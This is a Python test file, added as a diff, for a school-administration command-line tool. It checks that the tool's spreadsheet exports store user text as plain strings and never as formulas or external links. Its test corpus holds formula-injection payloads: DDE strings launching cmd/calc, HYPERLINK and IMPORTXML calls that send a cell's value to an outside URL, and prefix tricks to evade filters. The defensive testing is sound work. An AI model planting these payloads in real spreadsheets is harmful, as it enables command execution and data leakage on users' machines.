@@ -1,0 +1,207 @@
+"""Puts 200 texts that a program for sheets could take for a formula into every register, and reads every list back.
+
+Usage: read_lists.py PATH-OF-ZHOSPAR-CLI
+
+Makes the demo school in a temporary folder, types the texts into titles, notes and names through the real commands, writes
+every list and the year's workbook, and checks with openpyxl that each is the string it was, and nothing is anything else.
+"""
+
+import itertools
+import json
+import os
+import subprocess
+import sys
+import tempfile
+import unittest
+import zipfile
+from datetime import date, timedelta
+from pathlib import Path
+
+import openpyxl
+
+# What a text begins with: signs of formulas, kinds of blanks before them, quotes, and letters that look like the signs.
+STARTS = (
+    "=", "+", "-", "@", "\t=", "\r=", " =", "  +", "'=", '"=', "''=", "`=", "＝", "＋", "－", "＠", "−", "–", "—", "﹣",
+    "=+", "=-", "+-", "@@", "%0A-", "|", ";=", ",=", "\u200b=", "\u00a0=", "\ufeff=", "\u202e=", "\x01=", "{=", "<b>=",
+)
+BODIES = (
+    "1+1",
+    'HYPERLINK("http://example.org","бас")',
+    "cmd|' /C calc'!A0",
+    'IMPORTXML(CONCAT("http://example.org/?v=",A1),"//a")',
+    'DDE("cmd";"/C calc";"x")',
+    "SUM(A1:A9)*_x000D_",
+)
+CORPUS = [start + body for start, body in itertools.product(STARTS, BODIES)]
+LISTS = (
+    "plan", "plan_changes", "evidence", "incidents", "incidents_of_year", "notices", "meetings", "agenda_items",
+    "decisions", "decisions_of_year", "tasks", "tasks_of_year", "people", "holdings", "report_items", "days_off",
+    "accounts", "operations",
+)
+
+
+class Cli:
+    def __init__(self, program, place):
+        self.start = [program, "--school", str(place / "school"), "--account", "demo", "--json"]
+        self.environment = dict(os.environ, ZHOSPAR_PASSWORD="demo-demo-demo", ZHOSPAR_DATA=str(place / "data"))
+        self.lines = place / "lines.json"
+
+    def __call__(self, *arguments):
+        done = subprocess.run(
+            [*self.start, *arguments], env=self.environment, stdin=subprocess.DEVNULL, capture_output=True, text=True
+        )
+        if done.returncode != 0:
+            raise AssertionError(f"zhospar-cli {arguments[:2]} ended with {done.returncode}: {done.stdout}{done.stderr}")
+        return json.loads(done.stdout) if done.stdout.strip() else None
+
+    def call(self, name, **request):
+        reply = self("call", name, json.dumps(request))
+        return reply["value"] if isinstance(reply, dict) and reply.get("kind") == "done" else reply
+
+    def each(self, name, requests):
+        self.lines.write_text("\n".join(json.dumps(one) for one in requests), encoding="utf-8")
+        return self("call", name, "--each", str(self.lines))
+
+
+def kk(text):
+    return {"kk": text, "ru": "", "en": ""}
+
+
+def in_cell(text):
+    """What a cell keeps of a text: no control characters, one kind of line break, a blank for a tab."""
+    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\t", " ")
+    return "".join(letter for letter in text if letter == "\n" or not (ord(letter) < 32 or 127 <= ord(letter) < 160))
+
+
+class Lists(unittest.TestCase):
+    program = None
+
+    @classmethod
+    def setUpClass(cls):
+        cls.folder = tempfile.TemporaryDirectory(prefix="zhospar-readers-")
+        cls.place = Path(cls.folder.name)
+        cls.cli = Cli(cls.program, cls.place)
+        cls.cli("demo", "--lang", "kk")
+        years = cls.cli.call("list_school_years")
+        cls.year = next(year for year in years if year["label"] == "2026-2027")["id"]
+        cls.type_everywhere()
+        cls.books = {}
+        for name in LISTS:
+            narrowed = ["--filter", '{"group": "all"}'] if name == "tasks" else []
+            file = cls.place / f"{name}.xlsx"
+            cls.cli("export", "list", name, str(file), "--lang", "kk", "--year", "2026-2027", *narrowed)
+            cls.books[name] = openpyxl.load_workbook(file)
+        cls.cli("export", "workbook", str(cls.place / "year.xlsx"), "--year", "2026-2027", "--lang", "kk")
+        cls.books["the year"] = openpyxl.load_workbook(cls.place / "year.xlsx")
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.folder.cleanup()
+
+    @classmethod
+    def type_everywhere(cls):
+        cli, when = cls.cli, {"occurred_on": "2026-11-02", "occurred_time": None, "occurred_approximate": False}
+        when |= {"detected_on": "2026-11-02", "detected_time": None, "incident_type": "data_leak"}
+        cli.each("register_incident", [
+            {"what": text, "reported_by": text, "immediate_action": text, **when} for text in CORPUS
+        ])
+        person = cli.call("list_people", text="", include_left=False)[0]["id"]
+        cli.each("give_task", [{"title": text, "note": text, "responsible_id": person} for text in CORPUS])
+        cli.each("add_person", [{"surname": text, "given_name": text, "post": text, "phone": text[:20]} for text in CORPUS])
+        first = date(2026, 9, 2)
+        taken = {row["day"] for row in cli.call("list_days_off", school_year_id=cls.year)}
+        days = (str(first + timedelta(days=count)) for count in range(355))
+        free = [day for day in days if day not in taken]
+        cli.each("add_day_off", [
+            {"day": day, "kind": "holiday", "name": kk(text)} for day, text in zip(free, CORPUS)
+        ])
+        meeting = cli.call("call_meeting", body="council", held_on="2026-12-01")
+        items = cli.each("add_agenda_item", [{"meeting_id": meeting, "title": kk(text)} for text in CORPUS])
+        cli.each("record_decision", [
+            {"agenda_item_id": item, "text": kk(text)} for item, text in zip(items, CORPUS)
+        ])
+        cli.each("add_report_item", [
+            {"school_year_id": cls.year, "kind": "recommendation", "text": kk(text)} for text in CORPUS
+        ])
+        plan = cli.call("show_plan", school_year_id=cls.year, stage_ids=[], statuses=[], person_id=None, text="")
+        rows = [row["id"] for stage in plan["stages"] for row in stage["activities"]]
+        cli.each("edit_activity", [
+            {"id": row, "field": field, "language": "kk", "text": text}
+            for (row, field), text in zip(itertools.product(rows, ("title", "expected_document")), CORPUS[::4])
+        ])
+
+    def texts(self, name):
+        cells = [cell for sheet in self.books[name] for row in sheet.iter_rows() for cell in row]
+        # A code that was typed is written with its first letter coded, which this reader leaves as it is.
+        return [cell.value.replace("_x005F_", "_") for cell in cells if isinstance(cell.value, str)]
+
+    def kept(self, name, field, **request):
+        """The texts as a list's own command gives them."""
+        rows = self.cli.call(name, **request)
+        return [row[field]["kk"] if isinstance(row[field], dict) else row[field] for row in rows]
+
+    def test_the_corpus_is_as_large_as_it_is_said_to_be(self):
+        self.assertGreaterEqual(len(set(CORPUS)), 200)
+
+    def test_no_cell_of_any_list_is_a_formula_or_leads_anywhere(self):
+        for name, book in self.books.items():
+            with self.subTest(name):
+                cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+                self.assertEqual([cell.coordinate for cell in cells if cell.data_type == "f"], [])
+                out = [cell.coordinate for cell in cells if cell.hyperlink and cell.hyperlink.target]
+                self.assertEqual(out, [], "links stay inside the book")
+                with zipfile.ZipFile(self.place / ("year.xlsx" if name == "the year" else f"{name}.xlsx")) as package:
+                    parts = {part: package.read(part).decode() for part in package.namelist() if part.endswith(("xml", "rels"))}
+                    for part, text in parts.items():
+                        self.assertNotIn("<f>", text if part.startswith("xl/worksheets") else "", part)
+                        self.assertNotIn('TargetMode="External"', text, part)
+
+    def test_every_text_is_the_string_it_was(self):
+        everything = {"group": "all", "responsible_id": None, "activity_id": None, "incident_id": None, "text": ""}
+        of_year = {"school_year_id": self.year}
+        tasks = self.kept("list_tasks", "title", **everything)
+        people = self.kept("list_people", "full_name", text="", include_left=False)
+        decisions = self.kept("list_decisions", "text", **of_year)
+        incidents = self.every_incident()
+        report = [item["text"]["kk"] for item in self.cli.call("annual_report", **of_year)["items"]]
+        days = self.kept("list_days_off", "name", **of_year)
+        for register, typed, sheets in (
+            ("incidents", incidents, ("incidents", "incidents_of_year", "the year")),
+            ("tasks", tasks, ("tasks", "tasks_of_year", "the year")),
+            ("people", people, ("people", "the year")),
+            ("decisions", decisions, ("decisions",)),
+            ("what the report says", report, ("report_items", "the year")),
+            ("days off", days, ("days_off",)),
+        ):
+            self.assertGreaterEqual(len(typed), 200, f"{register}: the texts were taken")
+            plain = {text for text in typed if text.startswith(("=", "+", "-", "@", "'", '"', "＝", "−"))}
+            self.assertGreater(len(plain), 60, f"{register}: they are kept as they were typed")
+            for sheet in sheets:
+                with self.subTest(f"{register} on {sheet}"):
+                    found = set(self.texts(sheet))
+                    self.assertEqual([text for text in typed if in_cell(text) not in found], [])
+
+    def every_incident(self):
+        found, after = [], None
+        while True:
+            page = self.cli.call(
+                "list_incidents", school_year_id=None, group="all", types=[], severities=[], text="", after=after,
+                limit=200,
+            )
+            found += [row["what"] for row in page["items"]]
+            after = page["next"]
+            if after is None:
+                return found
+
+    def test_agenda_and_plan_hold_them_too(self):
+        agenda, plan = set(self.texts("agenda_items")), set(self.texts("plan"))
+        signs = [text for text in CORPUS if text[0] in "=+-@"]
+        self.assertEqual([text for text in signs if text not in agenda], [])
+        self.assertGreater(len([text for text in signs if text in plan]), 3)
+
+
+if __name__ == "__main__":
+    if len(sys.argv) != 2:
+        sys.exit(__doc__)
+    Lists.program = sys.argv.pop()
+    unittest.main(verbosity=2)
